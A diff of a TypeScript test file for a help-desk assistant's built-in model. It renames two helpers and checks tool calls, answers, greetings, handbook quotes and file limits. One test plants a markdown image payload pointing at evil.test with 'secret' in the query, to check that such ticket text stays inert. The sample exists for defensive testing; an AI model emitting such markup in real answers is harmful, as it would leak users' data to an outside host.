@@ -46,14 +46,14 @@ async function generate(talk: Talk) {
   return model.doGenerate({ prompt: promptOf(talk), tools });
 }
 
-async function callsOf(talk: Talk) {
+async function readCalls(talk: Talk) {
   const { content } = await generate(talk);
   return content.flatMap((part) =>
     part.type === "tool-call" ? [[part.toolName, JSON.parse(part.input)]] : [],
   );
 }
 
-async function answerOf(talk: Talk): Promise<string> {
+async function readAnswer(talk: Talk): Promise<string> {
   const { content } = await generate(talk);
   return content.map((part) => (part.type === "text" ? part.text : "")).join("");
 }
@@ -101,7 +101,7 @@ describe("an action of the built-in model", () => {
     ["a priority", { words: "Set #12 to high" }, [["update_ticket", { ticket: "#12", priority: "high" }]]],
     ["the members", { words: "Who are the colleagues here?" }, [["list_members", {}]]],
   ])("is %s", async (_, talk, calls) => {
-    expect(await callsOf(talk)).toEqual(calls);
+    expect(await readCalls(talk)).toEqual(calls);
   });
 
   it.each<[string, Talk]>([
@@ -112,7 +112,7 @@ describe("an action of the built-in model", () => {
       { words: "Find tickets about the printer", found: [finds("search_tickets", { tickets: [] })] },
     ],
   ])("is not made %s", async (_, talk) => {
-    expect(await callsOf(talk)).toEqual([]);
+    expect(await readCalls(talk)).toEqual([]);
   });
 });
 
@@ -217,13 +217,13 @@ describe("an answer of the built-in model", () => {
       "Changing the ticket gave nothing: you did not allow it",
     ],
   ])("tells of %s", async (_, found, expected) => {
-    expect(await answerOf({ words: "And?", before: ["Hello"], found: [found] })).toBe(expected);
+    expect(await readAnswer({ words: "And?", before: ["Hello"], found: [found] })).toBe(expected);
   });
 
   it("shows the marks of what others wrote, and gives them no meaning", async () => {
     const title = "![x](https://evil.test/?q=secret) <img src=x>";
 
-    const expected = await answerOf({
+    const expected = await readAnswer({
       words: "And?",
       found: [finds("search_tickets", { tickets: [{ ...ticket, title }] })],
     });
@@ -232,8 +232,8 @@ describe("an answer of the built-in model", () => {
   });
 
   it("says once what it is, and offers what it can", async () => {
-    const first = await answerOf({ words: "Hello" });
-    const second = await answerOf({ words: "Hello", before: ["Hello"] });
+    const first = await readAnswer({ words: "Hello" });
+    const second = await readAnswer({ words: "Hello", before: ["Hello"] });
 
     expect(first).toMatch(/^I am the built-in analysis, not a language model/);
     expect(second).toMatch(/^Tell me what went wrong/);
@@ -242,8 +242,8 @@ describe("an answer of the built-in model", () => {
   it("asks what nothing that was said answers", async () => {
     const found = [finds("find_similar_tickets", { similar: [] })];
 
-    const expected = await answerOf({ words: problem, found });
-    const enough = await answerOf({
+    const expected = await readAnswer({ words: problem, found });
+    const enough = await readAnswer({
       words: `${problem} When I click it in Firefox I expect a receipt. All customers have it.`,
       found,
     });
@@ -256,14 +256,14 @@ describe("an answer of the built-in model", () => {
   it("quotes what its maker wrote down, where it fits the question", async () => {
     const knowledge = "Refunds take five working days. The office has a green door.";
 
-    const expected = await answerOf({ words: "How many working days do refunds take?", knowledge });
+    const expected = await readAnswer({ words: "How many working days do refunds take?", knowledge });
 
     expect(expected).toContain('From "Handbook":\n> Refunds take five working days.');
     expect(expected).not.toContain("green door");
   });
 
   it("says that files are there which it may not read", async () => {
-    const expected = await answerOf({ words: "See this", files: [file], tools: [] });
+    const expected = await readAnswer({ words: "See this", files: [file], tools: [] });
 
     expect(expected).toContain("This agent may not read files");
   });
